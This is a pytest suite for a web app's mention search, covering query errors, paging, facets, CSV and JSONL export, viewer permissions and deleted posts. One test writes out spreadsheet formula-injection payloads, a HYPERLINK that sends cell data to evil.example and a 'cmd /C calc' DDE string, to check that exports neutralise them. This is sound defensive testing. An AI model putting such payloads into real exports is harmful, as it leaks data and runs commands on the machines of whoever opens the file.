"""Search over HTTP: the query language and filters, parse errors at their column, keyset
pages that show every hit once, facet counts, the streamed export (CSV and JSON Lines) read
back whole, formula injection, deleted posts, edge values, and who may search."""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from collections.abc import Callable
from contextlib import closing
from datetime import timedelta
from pathlib import Path
from typing import Any, Literal

import httpx
import pytest

from listener.models import Author
from listener.store import open_store
from listener.store.search_facets import facet_counts
from listener.store.search_walk import walk
from listener.web.search_export import EXPORT_PAGE, export_chunks
from listener.web.search_views import form_from_params
from tests.export_sample import QUERIES, fill_export_sample
from tests.store_helpers import T0, make_mention
from tests.web_fixtures import WebServer
from tests.web_pages_helpers import signed_in, token_client
from tests.web_search_helpers import SOURCES, api, fill

Serve = Callable[..., WebServer]


def all_pages(client: httpx.Client, params: dict[str, Any]) -> list[str]:
    ids: list[str] = []
    cursor = None
    for _ in range(1000):
        answer = client.get(
            "/api/v1/search", params={**params, **({"cursor": cursor} if cursor else {})}
        )
        assert answer.status_code == 200, answer.text
        body = answer.json()
        ids += [hit["id"] for hit in body["items"]]
        cursor = body["next_cursor"]
        if cursor is None:
            return ids
    raise AssertionError("paging never ended")


def test_a_query_with_filters_finds_what_a_direct_read_finds(web_server: Serve) -> None:
    running = web_server()
    fill(running.store, 60)
    with api(running) as client:
        body = client.get(
            "/api/v1/search",
            params={"q": "anvil", "sentiment": "negative", "source": "reddit", "limit": 100},
        ).json()
    expected = {
        f"{SOURCES[n % 3]}:{n}"
        for n in range(1, 61)
        if n % 2 and n % 3 == 0 and SOURCES[n % 3] == "reddit"
    }
    assert expected  # the case is not empty
    assert {hit["id"] for hit in body["items"]} == expected
    first = body["items"][0]
    assert "<mark>anvil</mark>" in first["snippet_html"]
    assert first["link"] == "/mentions/" + first["id"].replace(":", "%3A")
    assert first["sentiment_label"] == "negative"


def test_dates_are_inclusive_days_and_complaint_feeling_topic_language_filter(
    web_server: Serve,
) -> None:
    running = web_server()
    fill(running.store, 40)
    day = (T0 + timedelta(minutes=10)).date().isoformat()
    with api(running) as client:
        dated = client.get("/api/v1/search", params={"from": day, "to": day, "limit": 100})
        feeling = client.get(
            "/api/v1/search",
            params={"complaint": "yes", "feeling": "frustrated", "topic": "delivery", "limit": 100},
        )
        german = client.get("/api/v1/search", params={"language": "de", "limit": 100})
    assert len(dated.json()["items"]) == 40  # T0 + n minutes: every mention is on that day
    assert {h["id"].split(":")[1] for h in feeling.json()["items"]} == {"20", "40"}
    assert {h["id"].split(":")[1] for h in german.json()["items"]} == {
        "6",
        "12",
        "18",
        "24",
        "30",
        "36",
    }


def test_empty_states_say_what_to_do(web_server: Serve) -> None:
    running = web_server()
    with api(running) as client:
        assert "No mentions yet" in client.get("/search").text
        fill(running.store, 2)
        assert "Nothing matches" in client.get("/search", params={"q": "zebra"}).text


def test_a_bad_query_is_a_400_problem_with_its_column(web_server: Serve) -> None:
    running = web_server()
    with api(running) as client:
        answer = client.get("/api/v1/search", params={"q": 'acme AND (late OR "broken'})
        page = client.get("/search", params={"q": "acme AND"})
        bad_filter = client.get("/api/v1/search", params={"from": "yesterday-ish"})
        partial = client.get("/search", params={"q": "acme"}, headers={"HX-Target": "results"})
        # A plain GET form sends its empty fields: the shareable URL leaves them out.
        tidy = client.get("/search?q=acme&brand=&sentiment=&sort=relevance")
    assert partial.text.lstrip().startswith('<div id="results"') and "<html" not in partial.text
    assert partial.headers["hx-push-url"] == "/search?q=acme"
    assert tidy.status_code == 303 and tidy.headers["location"] == "/search?q=acme"
    assert answer.status_code == 400
    assert answer.headers["content-type"].startswith("application/problem+json")
    problem = answer.json()
    assert problem["status"] == 400 and isinstance(problem["column"], int)
    assert 1 <= problem["column"] <= len('acme AND (late OR "broken') + 1
    assert page.status_code == 200  # a page that says what is wrong, under the box
    assert "cannot run" in page.text and "^ column" in page.text
    assert bad_filter.status_code == 400 and "from must be a date" in bad_filter.json()["detail"]


@pytest.mark.parametrize("sort", ["relevance", "newest"])
@pytest.mark.parametrize("q", ["anvil", ""])
def test_paging_shows_every_hit_exactly_once(web_server: Serve, q: str, sort: str) -> None:
    running = web_server()
    fill(running.store, 1300)  # past the store's ranked window of 1,000
    with api(running) as client:
        ids = all_pages(client, {"q": q, "sort": sort, "limit": 100})
    expected = 650 if q else 1300
    assert len(ids) == expected
    assert len(set(ids)) == expected


def test_facets_agree_with_a_direct_count_below_the_cap(web_server: Serve) -> None:
    running = web_server()
    fill(running.store, 90)
    with api(running) as client:
        body = client.get("/api/v1/search", params={"q": "anvil"}).json()
    facets = {
        g["name"]: {v["value"]: v["count"] for v in g["values"]} for g in body["facets"]["groups"]
    }
    assert body["facets"]["capped"] is False and body["facets"]["counted"] == 45
    matches = [n for n in range(1, 91) if n % 2]
    assert facets["source"] == dict(Counter(SOURCES[n % 3] for n in matches))
    labels = ("negative", "positive", "neutral")
    assert facets["sentiment"] == dict(Counter(labels[n % 3] for n in matches))
    assert facets["complaint"] == {"no": 45}  # odd numbers are never multiples of 4
    assert facets["brand"] == {"Acme": 45, "Globex": len([n for n in matches if n % 7 == 0])}
    assert facets["language"] == {"en": 45}  # multiples of 6 are even
    assert facets["feeling"] == {"frustrated": len([n for n in matches if n % 5 == 0])}
    # Each facet value links to the search narrowed to it.
    narrowed = next(
        v for g in body["facets"]["groups"] if g["name"] == "source" for v in g["values"]
    )
    assert "source=" + narrowed["value"] in narrowed["url"]


def test_facets_count_the_newest_thousand_and_say_so_when_there_are_more(tmp_path: Path) -> None:
    with open_store(tmp_path / "x.db") as store:
        fill(store, 1100)
        where = form_from_params({}).where()
        counts = facet_counts(store, where)
        capped_sample = facet_counts(store, where, sample=50)
    assert counts.capped and counts.counted == 1000
    assert sum(c for _, c in counts.values["source"]) == 1000
    # The newest 1,000 stored are numbers 101-1100.
    assert dict(counts.values["source"]) == dict(Counter(SOURCES[n % 3] for n in range(101, 1101)))
    assert capped_sample.counted == 50 and capped_sample.capped


def test_export_csv_and_jsonl_hold_the_whole_result_set_across_pages(web_server: Serve) -> None:
    running = web_server()
    total = EXPORT_PAGE * 2 + 37  # three pages of the walk
    fill(running.store, total * 2)
    with api(running) as client:
        as_csv = client.get("/search/export.csv", params={"q": "anvil"})
        as_jsonl = client.get("/api/v1/export", params={"q": "anvil", "format": "jsonl"})
        filtered = client.get("/api/v1/export", params={"sentiment": "negative", "format": "csv"})
    where = form_from_params({"q": "anvil"}).where()
    expected = [hit.mention.id for hit in walk(running.store, where)]
    assert len(expected) == total

    assert as_csv.status_code == 200
    assert as_csv.headers["content-type"].startswith("text/csv")
    disposition = as_csv.headers["content-disposition"]
    assert disposition.startswith("attachment;") and ".csv" in disposition
    assert running.context.clock().date().isoformat() in disposition
    rows = list(csv.DictReader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    assert [r["id"] for r in rows] == expected
    assert rows[0]["text"].startswith("the acme anvil number")

    lines = as_jsonl.text.splitlines()
    records = [json.loads(line) for line in lines]
    assert [r["id"] for r in records] == expected
    assert as_jsonl.headers["content-type"].startswith("application/x-ndjson")

    negative = list(csv.DictReader(io.StringIO(filtered.content.decode("utf-8-sig"))))
    assert len(negative) == len([n for n in range(1, total * 2 + 1) if n % 3 == 0])
    assert {r["sentiment_label"] for r in negative} == {"negative"}


def test_an_export_of_a_bad_query_is_a_400_not_a_broken_download(web_server: Serve) -> None:
    running = web_server()
    with api(running) as client:
        answer = client.get("/api/v1/export", params={"q": "(acme", "format": "csv"})
    assert answer.status_code == 400
    assert answer.headers["content-type"].startswith("application/problem+json")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(
    web_server: Serve, start: str
) -> None:
    running = web_server()
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"click") acme'
    running.store.insert_mentions(
        [
            make_mention(
                1,
                title=payload,
                text=payload,
                author=Author(handle=f"{start}cmd|' /C calc'!A0", name=f"{start}1+1"),
            )
        ]
    )
    with api(running) as client:
        rows = list(
            csv.DictReader(
                io.StringIO(client.get("/search/export.csv").content.decode("utf-8-sig"))
            )
        )
    (row,) = rows
    for column in ("title", "text", "author_handle", "author_name"):
        assert row[column].startswith("'" + start), (column, row[column])
    assert row["sentiment_label"] == "unknown"


def test_viewers_search_and_export_but_cannot_save(web_server: Serve) -> None:
    running = web_server()
    fill(running.store, 5)
    with token_client(running, "reader", "viewer") as viewer:
        assert viewer.get("/api/v1/search", params={"q": "anvil"}).status_code == 200
        assert viewer.get("/api/v1/export", params={"format": "jsonl"}).status_code == 200
        assert viewer.get("/api/v1/saved-searches").status_code == 200
        refused = viewer.post("/api/v1/saved-searches", json={"name": "x", "query": "acme"})
        assert refused.status_code == 403
        assert viewer.delete("/api/v1/saved-searches/x").status_code == 403
    with closing(signed_in(running, "vera", "viewer")) as browser:
        page = browser.get("/search", params={"q": "anvil"})
        assert page.status_code == 200 and "Save search" not in page.text
        assert browser.post("/search/saved", data={"name": "x", "q": "y"}).status_code == 403
    with token_client(running, "helper", "agent") as agent:
        made = agent.post("/api/v1/saved-searches", json={"name": "x", "query": "acme"})
        assert made.status_code == 201 and made.json()["created_by"] == "helper"
    with httpx.Client(base_url=running.url) as nobody:
        assert nobody.get("/api/v1/search").status_code == 401


@pytest.mark.parametrize("q", ["anvil", ""])
def test_a_post_deleted_at_its_source_is_never_shown_counted_or_exported(
    web_server: Serve, q: str
) -> None:
    running = web_server()
    fill(running.store, 9)
    running.store.tombstone_mentions(["forum:5"], T0 + timedelta(days=1))
    with api(running) as client:
        for sort in ("relevance", "newest"):
            ids = all_pages(client, {"q": q, "sort": sort, "limit": 2})
            assert "forum:5" not in ids and len(ids) == (4 if q else 8)
        counted = client.get("/api/v1/search", params={"q": q}).json()["facets"]["counted"]
        exported = client.get("/api/v1/export", params={"q": q, "format": "jsonl"}).text
    assert counted == (4 if q else 8)
    assert "forum:5" not in exported and len(exported.splitlines()) == (4 if q else 8)


@pytest.mark.parametrize(
    ("params", "status"),
    [
        ({"to": "9999-12-31"}, 200),  # the calendar's last day: no end, not an overflow
        ({"from": "2026-03-02", "to": "2026-03-01"}, 400),
        ({"cursor": "o" + "9" * 19}, 400),
        ({"cursor": "k" + "9" * 19, "sort": "newest"}, 400),
        ({"cursor": "k12", "sort": "relevance"}, 400),  # another order's cursor
        ({"q": "a\x00b"}, 200),
        ({"q": '"unterminated'}, 400),  # a phrase never closed: its column
        ({"q": "x" * 5000}, 400),
    ],
)
def test_edge_values_are_answers_or_400s_never_500s(
    web_server: Serve, params: dict[str, str], status: int
) -> None:
    running = web_server()
    fill(running.store, 3)
    with api(running) as client:
        assert client.get("/api/v1/search", params=params).status_code == status
        page = client.get("/search", params=params, follow_redirects=True)
        assert page.status_code == 200  # the page explains


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
@pytest.mark.parametrize("query_at", range(len(QUERIES)))
def test_an_export_is_byte_for_byte_what_it_was_when_each_row_was_a_whole_mention(
    tmp_path: Path, fmt: Literal["csv", "jsonl"], query_at: int
) -> None:
    # The golden files were written by the export before it read flat rows (whole-second
    # times without ".000000", feelings and topics in the judges' order and case).
    with closing(open_store(tmp_path / "listener.db")) as store:
        fill_export_sample(store)
        exported = b"".join(export_chunks(store, form_from_params(QUERIES[query_at]), fmt))
    golden = Path(__file__).parent / "golden" / f"search_export_{query_at}.{fmt}"
    assert exported == golden.read_bytes()
